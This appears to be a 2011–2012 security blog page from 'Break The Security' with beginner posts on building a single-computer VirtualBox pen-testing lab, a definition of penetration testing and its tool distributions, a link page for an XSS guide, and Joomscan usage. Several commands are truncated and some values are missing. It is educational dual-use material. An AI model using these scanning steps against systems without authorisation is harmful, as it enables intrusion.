How to Set up your Pen Testing / Ethical Hacking Lab with a single Computer ?Hi BTS readers,  We have provide you plenty of Ethical hacking and Pentesting tutorial, still more article is going to come.  Meanwhile, i like to teach you how to set up your own Pen Testing/ hacking network Lab.

Use of your own Pen Testing Lab:
  • Free, free ,free..! It's free lab, because it is yours..
  • Only one system is enough
  • can Practice your pentesting/hacking skills
  • can install any kind of malwares(spyware,trojan) or RATs and test how it works
  • and more ...
is it possible to create a lab with single system?
Yes, you can. we are going to set up lot of vulnerable system virtually .  Confused? VirtualBox is open source software provided by Oracle corp that allows to run multiple guest OS(virtual system) in a single system .

  • Virtual box latest version and its extension (get it from here:
  • Windows XP image file(xp.iso) ; it is going to be our target system
  • Backtrack Linux image file(backtrack5.iso); we are going to launch the attack from this OS.
First of all, Learn how to configure the Guest OS in VirtualBox from here:
This page will you explain everything about Virtualbox and how to setup Guest OS.

I hope you now familiar with installing Guest OS.

Set Up your Target system:
Now we have to set up the target system.  Install the Windows XP in VirtualBox using the xp.iso file.  After installation completed, disable the Firewall in xp so that it can become more vulnerable system.

Set up your PenTesting System:
Install the Backtrack5 in Virtualbox. Backtrack is penetration testing Linux that has lot of hacking tools .  We will hack the target system using this backtrack.

Network Settings for Guest Os:
Step 1:
click the File menu in Virtualbox and select Preference
Now select the Network Tab
Click the + symbol in the side that will add a new Host only network


Right click on the Guest OX(eg:xp,backtrack) and select the Settings.Select Network tab.
Now you can see the "Attached to" option menu.
change it from NAT to "Host only Adapter"
Do the same thing for both Guest OS.

Step 3:

Now run the both guest os .
Finding the IP address of Target System:
open the Windows XP Guest OS window.
open the cmd in Windows XP and type ipconfig
This will show the ip address of XP. It will be
Hacking with Pen Testing System:
open the Terminal  and type "nmap".
Now it will show the list of open port.You can hack the target system with open ports.
Let me explain more details in my next article.

If you have trouble in installing or confused, comment here.
Continue   Reading>>

Saturday, January 21, 2012

Complete Cross Site Scripting(XSS) Guide : Web Application Pen Testing

Hello BTS readers, Here is complete set of posts that explains everything about the Cross site scripting.  Still more articles are on the way, Stay tuned to BreakTheSec..!

Link To Tutorials:
PenTesting Lab to practice XSS attacks:
Continue   Reading>>

Wednesday, November 23, 2011

What is Penetration Testing and Pen Testing Distribution?

Penetration Testing(Pen Testing) is the act of evaluating the Security of system or network by exploiting vulnerabilities. This will determine whether unauthorized or malicious activity is possible in a system. Vulnerability uncovered through the Pen Testing will be presented to the system's owner.

Why Penetration Testing?

  • Pentetrationtesting can identify the vulnerabilities that is not identified by an automated vulnerability scanners.
  • Determining the feasibility of a particular set of attack vectors
  • Determining the Critical Vulerabilities .
  • Assessing the magnitude of potential business and operational impacts of successful attacks
  • Testing the ability of network defenders to successfully detect and respond to the attacks
  • Testing stability of the system against the DDOS attack.

White Box vs Black Box vs Grey Box Testing:
Penetration testing can be performed in differentways. The methods can be classified into three types based on the knowledge about the System being tested.

White Box:
In white box testing, Pen Tester know everything about the system such as source code,network diagrams, ip addressing info.

White box testing simulates what might happen during an "inside job" or after a "leak" of sensitive information, where the attacker(malicious insider) has access to source code, network layouts, and possibly even some passwords.

Black Box:Pen Tester test the system without prior knowledge about the system. This method is also known as Blind Testing . Black box testing simulates an attack from someone who is unfamiliar(malicious outsiders) with the system.

Grey Box:
In this method, Pen Tester partially know about the system.

Web application penetration testing:
This testing will be used to find the following web application vulnerabilities:

  • SQL Injection
  • XSS(Cross site Scripting)
  • Buffer overflow
  • Clickjacking
  • DDOS
Penetration Testing Tool:
Penetration Testing tools are used as part of a penetration test to automate certain tasks, improve testing efficiency, anddiscover issues that might be difficult to find using manual analysis techniques alone.

As a Penetration Tester, you will need lot of Penetration testing tools to test the Security of system. Searching ,downloading and installing the required software may take time. You can use a Penetration Testing Distribution instead.

What is Pen Testing Distribution?
Penetration Testing Distribution is an open source Operating System(Derived from Linux/BSD) that combines all required application for testing the security of system. It is specially developed for Security Professionals(Pen Testers/EthicalHackers/Forensic Officers...)
Eg: Backtrack 5 Linux .

What is the advantage of Penetration Testing Distribution?
All Required application for security test are gathered in a single Operating system. You don't need to search for application, Save your time. Penetration Testing Distribution are open source and free to use. You can install in pen drive and bring it anywhere.

Continue   Reading>>

How to use Joomscan to find the Joomla Vulnerability in Backtrack 5 Linux?

Joomscan is one of penetration testing tool that help to find the vulnerability in Joomla CMS.   The Updated version can detects 550 Vulnerabilities. Let me show how to use this joomscan in Backtrack5.

Download the Joomscan from here:Step 1: Moving to PenTest folder
Copy/Move the downloaded files in directory

Step2: Set PermissionNow you have to set permission for the Joomscan file. In order to this, Type the following command in Terminal(if you don't know how to open terminal at all, please stop reading this and start it from basics of Linux).
CHMOD 0777

Step 3: Update
Update the scanner to latest version. To do this, enter the following command in Terminal:
./ update

Step 4: Scanning for Vulnerability
Now everything ok, we have to scan our joomla site for vulnerability. To do this, enter the following command in Terminal:
./ -u

Wait for a while, and it will list of the vulnerability found.

This tutorial is completely for Educational purpose only. This tutorial is for PenTester and Ethical Hackers .Continue   Reading>>
Older Post Home© Break The Security. Copyright 2008 All Rights Reserved Revolution Two Church theme by Brian Gardner Converted into Blogger Template by Bloganol dot com